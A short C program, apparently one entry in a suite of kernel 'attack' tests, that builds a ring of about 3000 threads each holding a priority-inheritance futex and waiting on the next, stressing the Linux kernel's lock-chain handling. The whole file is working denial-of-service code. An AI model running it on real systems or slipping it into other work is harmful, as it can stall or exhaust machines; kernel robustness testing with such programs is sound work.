/* SPDX-License-Identifier: GPL-2.0-or-later */
/* A chain of owners, each waiting for the next, thousands long, and a ring of them. */
#include "attack.h"

#include <linux/futex.h>

enum { LENGTH = 3000 };
static uint32_t locks[LENGTH + 1];

static _Noreturn int thread(void *which)
{
    long i = (long)which;
    syscall(SYS_futex, &locks[i], FUTEX_LOCK_PI, 0, NULL, NULL, 0);
    for (;;) {
        syscall(SYS_futex, &locks[(i + 1) % LENGTH], FUTEX_LOCK_PI, 0, NULL, NULL, 0);
        sched_yield();
    }
}

int main(void)
{
    for (long i = LENGTH - 1; i >= 0; i--) {
        char *stack = map(16384);
        if (stack == MAP_FAILED)
            break;
        clone(thread, stack + 16384,
              CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD, (void *)i);
        sched_yield();
    }
    for (;;)
        syscall(SYS_futex, &locks[0], FUTEX_LOCK_PI, 0, &(struct timespec){1, 0}, NULL, 0);
}
